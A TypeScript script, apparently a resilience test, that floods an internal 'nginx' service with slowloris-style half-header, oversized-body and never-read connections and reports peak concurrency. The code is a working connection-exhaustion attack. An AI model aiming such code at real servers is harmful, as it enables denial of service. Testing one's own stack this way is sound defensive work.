import { connect } from 'node:net'

/**
 * Runs in containers of its own, so from other addresses than the victim's: holds as many connections as it is told to, each of which
 * sends something and never reads an answer. One that nginx gave up is renewed, as whoever means harm would.
 */
const [kind = '', countText = '', secondsText = ''] = process.argv.slice(2)
const count = Number(countText)
const OPEN_EVERY_MS = 20
/** 1,000 a second: more would measure the two cores that carry the flood as well. Headers that never end cost them little. */
const REQUESTS = { openedAtOnce: 20, renewedAfterMs: 20_000 }
/** As soon as nginx gives them up. */
const HEADERS = { openedAtOnce: 100, renewedAfterMs: 5_500 }

const HEAD = 'HTTP/1.1\r\nHost: nginx\r\n'
/** As many bytes of headers as one request may have. */
const FULL = `X-Um: ${'x'.repeat(9_000)}\r\n`
const LARGE = 65_536
/** A merchant's own, where there is one: the largest answers need it. */
const LIST = `GET /lancamentos?limite=200 ${HEAD}Authorization: Bearer ${process.env['TOKEN']}\r\n`
const FILE = `GET /docs/swagger-ui-bundle.js ${HEAD}`
const GZIP = 'Accept-Encoding: gzip\r\n'

const KINDS: Readonly<Record<string, { bytes: string; openedAtOnce: number; renewedAfterMs: number }>> = {
  files: { bytes: `${FILE}\r\n`, ...REQUESTS },
  'compressed files': { bytes: `${FILE}${GZIP}\r\n`, ...REQUESTS },
  answers: { bytes: `${LIST}\r\n`, ...REQUESTS },
  'compressed answers': { bytes: `${LIST}${GZIP}\r\n`, ...REQUESTS },
  bodies: {
    bytes: `POST /lancamentos ${HEAD}${FULL}Content-Length: ${LARGE}\r\n\r\n${' '.repeat(LARGE - 1)}`,
    ...REQUESTS,
    openedAtOnce: 10,
  },
  'half headers': { bytes: `GET /x ${HEAD}X-`, ...HEADERS },
  'long half headers': { bytes: `GET /x ${HEAD}${FULL}X-`, ...HEADERS },
}
const wanted = KINDS[kind]
if (wanted === undefined) throw new Error(`one of: ${Object.keys(KINDS).join(', ')}`)
const { bytes, openedAtOnce, renewedAfterMs } = wanted

const until = performance.now() + Number(secondsText) * 1_000
let open = 0
let most = 0
const hold = (): void => {
  const socket = connect({ host: 'nginx', port: 8080 })
  open += 1
  socket.once('connect', () => {
    most = Math.max(most, open)
  })
  // Never read: what nginx sends stays where it is.
  socket.pause()
  socket.write(bytes)
  socket.once('error', () => socket.destroy()).once('close', () => (open -= 1))
  setTimeout(() => socket.destroy(), renewedAfterMs)
}

const opening = setInterval(() => {
  for (let n = 0; n < openedAtOnce && open < count; n += 1) hold()
  if (performance.now() < until) return
  clearInterval(opening)
  console.log(`${most} connections at once`)
  process.exit(0)
}, OPEN_EVERY_MS)
